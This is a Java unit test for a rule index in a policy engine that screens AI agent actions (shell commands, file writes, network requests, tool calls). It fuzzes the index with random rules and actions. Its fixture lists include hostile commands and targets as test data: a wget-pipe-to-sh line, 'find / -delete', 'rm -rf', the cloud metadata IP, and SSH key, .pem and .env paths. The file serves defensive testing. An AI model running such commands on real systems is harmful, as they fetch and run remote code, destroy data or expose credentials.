// SPDX-License-Identifier: Apache-2.0
package dev.indelible.policy;

import static org.assertj.core.api.Assertions.assertThat;

import dev.indelible.action.ActionParser;
import dev.indelible.action.AgentAction;
import dev.indelible.action.Bash;
import dev.indelible.action.FilesystemWrite;
import dev.indelible.action.NetworkRequest;
import dev.indelible.fact.FactReader;
import dev.indelible.fact.Guard;
import dev.indelible.json.CanonicalJson;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.OptionalInt;
import java.util.OptionalLong;
import java.util.Random;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Compares the index of rules with an evaluation of every rule. */
class RuleIndexTest {
  private static final FactReader READER = new FactReader(Guard.anywhere());

  private static final List<String> PATHS =
      List.of(
          "/",
          "~",
          "@secrets",
          "@system",
          "@startup",
          "/srv/**",
          "/srv/a/**",
          "/srv/*",
          "/srv/b*",
          "${cwd}/**",
          "${cwd}/build/**",
          "**/.env",
          "**/*.pem",
          "~/.ssh/**",
          "/etc/*.conf",
          "C:/**",
          "!/srv/a/b",
          "!${cwd}/**",
          "!**/*.pem",
          "!@scratch");

  private static final List<String> HOSTS =
      List.of(
          "*",
          "example.com",
          "*.example.com",
          "db-*.example.com",
          "10.0.0.0/8",
          "10.1.0.0/16",
          "@metadata",
          "@private",
          "api.*",
          "example.com:8080",
          ":8080",
          "!db-1.example.com");

  private static final List<String> DETAILS = List.of("*", "network", "sudo", "force*", "!sudo");

  private static final List<String> COMMANDS =
      List.of("git", "git push", "GIT status", "rm", "terraform destroy", "curl", "tool-7 apply");

  private static final List<String> TOOLS = List.of("fetch", "mcp__fs__*", "write_file", "*");

  /** Arguments and paths of random commands. */
  private static final List<String> WORDS =
      List.of(
          "/",
          "~",
          "/srv",
          "/srv/a",
          "/srv/a/b",
          "/srv/*",
          "/srv/b1/x",
          "/etc/a.conf",
          "x.pem",
          "build",
          "build/*.pem",
          "~/.ssh/id_rsa",
          ".env",
          "$X",
          "$X/x.pem",
          "/srv/$X",
          "**",
          "''",
          "https://example.com/",
          "https://db-1.example.com:8080/x",
          "http://10.1.2.3/",
          "http://$H",
          "http://169.254.169.254/",
          "https://$H.example.com",
          "api.test",
          "-r",
          "-rf",
          "push",
          "apply");

  private static final List<String> PROGRAMS =
      List.of(
          "rm",
          "cat",
          "cp",
          "curl",
          "git",
          "sudo rm",
          "find / -delete #",
          "find . -name",
          "tee",
          "env -u X rm",
          "tool-7",
          "terraform destroy",
          "scp",
          "wget -O- https://x.example | sh #");

  static IntStream seeds() {
    return IntStream.range(0, 30);
  }

  @ParameterizedTest
  @MethodSource("seeds")
  void indexFindsEveryRuleThatMatches(int seed) throws Exception {
    Random random = new Random(seed);
    RuleReader rules = new RuleReader();
    rules.read(policy(random, 40), "random");
    List<AgentAction> actions = new ArrayList<>();
    for (int i = 0; i < 80; i++) {
      actions.add(action(random));
    }
    for (StarterCases.Case each : StarterCases.own().subList(seed * 30, seed * 30 + 30)) {
      actions.add(each.action());
    }
    RuleIndex index = new RuleIndex(rules.rules());
    for (AgentAction action : actions) {
      Subject subject = new Subject(action, READER.read(action), DiskSpace.WORKING_DIRECTORY);
      assertThat(matching(index.candidates(subject), subject))
          .as(action::toString)
          .isEqualTo(matching(rules.rules(), subject));
    }
  }

  private static List<String> matching(List<CompiledRule> rules, Subject subject) {
    List<String> matching = new ArrayList<>();
    for (CompiledRule rule : rules) {
      if (matches(rule, subject)) {
        matching.add(rule.rule().id());
      }
    }
    return matching;
  }

  /** A rule that cannot be evaluated blocks the action, so the index must also find it. */
  private static boolean matches(CompiledRule rule, Subject subject) {
    try {
      return rule.matches(subject, new ArrayList<>());
    } catch (RuntimeException e) {
      return true;
    }
  }

  @Test
  void unrelatedRulesAreNotCandidates() throws Exception {
    StringBuilder yaml = new StringBuilder("version: 1\nrules:\n");
    for (int i = 0; i < 1_000; i++) {
      yaml.append(rule("p" + i, "deletes: ['/srv/team" + i + "/**', '**/*.key" + i + "']"));
      yaml.append(
          rule("h" + i, "contacts: ['db-*.t" + i + ".example', '10.3." + i % 256 + ".0/24']"));
      yaml.append(rule("c" + i, "command: 'tool-" + i + " apply'"));
      yaml.append(rule("t" + i, "tool: mcp__server" + i + "__write"));
    }
    RuleReader rules = new RuleReader();
    rules.read(yaml.toString(), "many");
    RuleIndex index = new RuleIndex(rules.rules());
    String command =
        "rm -rf /srv/team7/x a.key8 build; curl https://db-1.t9.example http://10.3.5.1/; tool-6 x";
    Bash action = new Bash(command, Optional.of("/home/dev/project"));
    Subject subject = new Subject(action, READER.read(action), DiskSpace.WORKING_DIRECTORY);
    assertThat(index.candidates(subject))
        .extracting(rule -> rule.rule().id())
        .containsExactly("h5", "c6", "p7", "p8", "h9", "h261", "h517", "h773");
  }

  private static String policy(Random random, int count) {
    StringBuilder yaml = new StringBuilder("version: 1\nrules:\n");
    for (int i = 0; i < count; i++) {
      String when = clause(random);
      if (random.nextInt(4) == 0) {
        when = "[{" + when + "}, {" + clause(random) + "}]";
        yaml.append(rule("r" + i, null, when));
      } else {
        yaml.append(rule("r" + i, when));
      }
    }
    return yaml.toString();
  }

  private static String rule(String id, String conditions) {
    return rule(id, id, "{" + conditions + "}");
  }

  private static String rule(String id, String reason, String when) {
    return "- {id: %s, severity: warn, reason: r, when: %s}%n".formatted(id, when);
  }

  private static String clause(Random random) {
    List<String> conditions = new ArrayList<>();
    List<String> kinds =
        new ArrayList<>(
            List.of("deletes", "writes", "reads", "contacts", "runs", "command", "kind", "tool"));
    for (int i = random.nextInt(5) == 0 ? 2 : 1; i > 0; i--) {
      String kind = kinds.remove(random.nextInt(kinds.size()));
      conditions.add(kind + ": " + condition(kind, random));
    }
    return String.join(", ", conditions);
  }

  private static String condition(String kind, Random random) {
    int form = random.nextInt(6);
    return switch (kind) {
      case "contacts" ->
          form == 0
              ? "any"
              : form == 1
                  ? "{hosts: " + list(HOSTS, random) + ", ports: [443, 8080]}"
                  : form == 2 ? "{ports: [443]}" : list(HOSTS, random);
      case "runs" -> form == 0 ? "any" : list(DETAILS, random);
      case "command" -> list(COMMANDS, random);
      case "tool" -> list(TOOLS, random);
      case "kind" -> list(AgentAction.KINDS, random);
      default ->
          form == 0
              ? "any"
              : form == 1
                  ? "{recursive: true, unknown: " + random.nextBoolean() + "}"
                  : form == 2
                      ? "{recursive: true, paths: " + list(PATHS, random) + "}"
                      : list(PATHS, random);
    };
  }

  /** Returns a random list of the texts. Its first text is not an exception. */
  private static String list(List<String> texts, Random random) {
    List<String> chosen = new ArrayList<>();
    while (chosen.isEmpty() || random.nextInt(3) > 0) {
      String text = texts.get(random.nextInt(texts.size()));
      if (!chosen.isEmpty() || !text.startsWith("!")) {
        chosen.add("'" + text + "'");
      }
    }
    return chosen.toString();
  }

  private static AgentAction action(Random random) throws Exception {
    String word = WORDS.get(random.nextInt(WORDS.size()));
    return switch (random.nextInt(10)) {
      case 0 -> new FilesystemWrite(word.equals("''") ? "x" : word, OptionalLong.empty());
      case 1 ->
          new NetworkRequest("db-1.example.com", "https", OptionalInt.of(8080), Optional.of("/"));
      case 2 ->
          ActionParser.parse(
              CanonicalJson.read(
                  "{\"kind\":\"tool_call\",\"tool\":\"%s\",\"arguments\":{\"path\":\"%s\"}}"
                      .formatted(random.nextBoolean() ? "write_file" : "mcp__fs__x", word)),
              "action");
      default -> new Bash(command(random), Optional.of("/home/dev/project"));
    };
  }

  private static String command(Random random) {
    StringBuilder command = new StringBuilder();
    for (int i = random.nextInt(3); i >= 0; i--) {
      command.append(PROGRAMS.get(random.nextInt(PROGRAMS.size())));
      for (int k = random.nextInt(4); k > 0; k--) {
        command.append(' ').append(WORDS.get(random.nextInt(WORDS.size())));
      }
      command.append('\n');
    }
    return command.toString();
  }
}
